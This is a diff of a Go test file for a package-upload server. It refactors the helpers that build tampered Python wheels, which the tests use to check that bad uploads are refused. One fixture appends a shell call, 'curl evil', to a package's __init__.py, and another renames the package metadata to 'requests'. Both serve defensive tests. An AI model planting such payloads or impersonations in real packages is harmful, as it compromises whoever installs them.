@@ -1,16 +1,12 @@
 package serve
 
 import (
-	"archive/zip"
 	"bytes"
 	"context"
 	"crypto/md5"
-	"crypto/sha256"
-	"encoding/base64"
 	"encoding/hex"
 	"fmt"
 	"io"
-	"io/fs"
 	"mime/multipart"
 	"net"
 	"net/http"
@@ -87,14 +83,25 @@ func projectWheel(t *testing.T, name, version string, size int) *pypitest.File {
 // bytes differ.
 func withInitTail(t *testing.T, w *pypitest.File, tail string, fixRecord bool) *pypitest.File {
 	t.Helper()
-	c := *w
-	c.Data = rewriteZip(t, w.Data, fixRecord, func(name string, b []byte) []byte {
+	return rewritten(t, w, pypitest.WheelEdit{StaleRecord: !fixRecord, Member: func(name string, b []byte) []byte {
 		if strings.HasSuffix(name, "/__init__.py") {
 			return append(b, tail...)
 		}
 		return b
-	})
-	c.SHA256 = sha256Of(c.Data)
+	}})
+}
+
+// rewritten returns a copy of the wheel w changed as e says, with its
+// hash.
+func rewritten(t *testing.T, w *pypitest.File, e pypitest.WheelEdit) *pypitest.File {
+	t.Helper()
+	data, err := pypitest.RewriteWheel(w.Data, e)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := *w
+	c.Data = data
+	c.SHA256 = sha256Of(data)
 	return &c
 }
 
@@ -298,19 +305,15 @@ func TestUploadsAreRefusedWithNothingStored(t *testing.T) {
 	// file hashes are right, its member is not.
 	tampered := withInitTail(t, w, "import os; os.system('curl evil')\n", false)
 	// A wheel with a member RECORD does not list.
-	unlisted := *w
-	unlisted.Data = rewriteZip(t, w.Data, false, nil, "acme_tools/extra.py")
-	unlisted.SHA256 = sha256Of(unlisted.Data)
+	unlisted := rewritten(t, w, pypitest.WheelEdit{Add: map[string]string{"acme_tools/extra.py": ""}, StaleRecord: true})
 	// A consistent wheel (RECORD rewritten) whose METADATA names another
 	// project than its file name.
-	renamedAs := *w
-	renamedAs.Data = rewriteZip(t, w.Data, true, func(name string, b []byte) []byte {
+	renamedAs := rewritten(t, w, pypitest.WheelEdit{Member: func(name string, b []byte) []byte {
 		if strings.HasSuffix(name, ".dist-info/METADATA") {
 			return bytes.Replace(b, []byte("Name: acme-tools"), []byte("Name: requests"), 1)
 		}
 		return b
-	})
-	renamedAs.SHA256 = sha256Of(renamedAs.Data)
+	}})
 	cases := []struct {
 		name   string
 		file   *pypitest.File
@@ -328,8 +331,8 @@ func TestUploadsAreRefusedWithNothingStored(t *testing.T) {
 		{"wrong filetype", w, []string{"alice", "pw"}, func(f map[string]string) { f["filetype"] = "sdist" }, http.StatusBadRequest},
 		{"other action", w, []string{"alice", "pw"}, func(f map[string]string) { f[":action"] = "remove_pkg" }, http.StatusBadRequest},
 		{"member does not match RECORD", tampered, []string{"alice", "pw"}, nil, http.StatusBadRequest},
-		{"member not in RECORD", &unlisted, []string{"alice", "pw"}, nil, http.StatusBadRequest},
-		{"metadata names another project", &renamedAs, []string{"alice", "pw"}, nil, http.StatusBadRequest},
+		{"member not in RECORD", unlisted, []string{"alice", "pw"}, nil, http.StatusBadRequest},
+		{"metadata names another project", renamedAs, []string{"alice", "pw"}, nil, http.StatusBadRequest},
 		{"larger than --max-upload", big, []string{"alice", "pw"}, nil, http.StatusRequestEntityTooLarge},
 		{"a form field one byte over its limit", w, []string{"alice", "pw"}, func(f map[string]string) { f["description"] = strings.Repeat("x", maxFormField+1) }, http.StatusRequestEntityTooLarge},
 	}
@@ -354,58 +357,6 @@ func TestUploadsAreRefusedWithNothingStored(t *testing.T) {
 			}
 		})
 	}
-}
-
-// rewriteZip copies a zip archive, passing each member through edit (when
-// not nil) and adding empty members named add; with fixRecord, RECORD is
-// written last from the edited members.
-func rewriteZip(t *testing.T, data []byte, fixRecord bool, edit func(name string, b []byte) []byte, add ...string) []byte {
-	t.Helper()
-	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
-	if err != nil {
-		t.Fatal(err)
-	}
-	var out bytes.Buffer
-	zw := zip.NewWriter(&out)
-	var record strings.Builder
-	recordName := ""
-	for _, f := range zr.File {
-		if strings.HasSuffix(f.Name, ".dist-info/RECORD") && fixRecord {
-			recordName = f.Name
-			continue
-		}
-		b, err := fs.ReadFile(zr, f.Name)
-		if err != nil {
-			t.Fatal(err)
-		}
-		if edit != nil {
-			b = edit(f.Name, b)
-		}
-		fw, err := zw.Create(f.Name)
-		if err != nil {
-			t.Fatal(err)
-		}
-		fw.Write(b)
-		sum := sha256.Sum256(b)
-		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f.Name, base64.RawURLEncoding.EncodeToString(sum[:]), len(b))
-	}
-	if recordName != "" {
-		fmt.Fprintf(&record, "%s,,\n", recordName)
-		fw, err := zw.Create(recordName)
-		if err != nil {
-			t.Fatal(err)
-		}
-		fw.Write([]byte(record.String()))
-	}
-	for _, name := range add {
-		if _, err := zw.Create(name); err != nil {
-			t.Fatal(err)
-		}
-	}
-	if err := zw.Close(); err != nil {
-		t.Fatal(err)
-	}
-	return out.Bytes()
 }
 
 // TestUploadsLeaveNothingHalfWritten cuts an upload's connection halfway
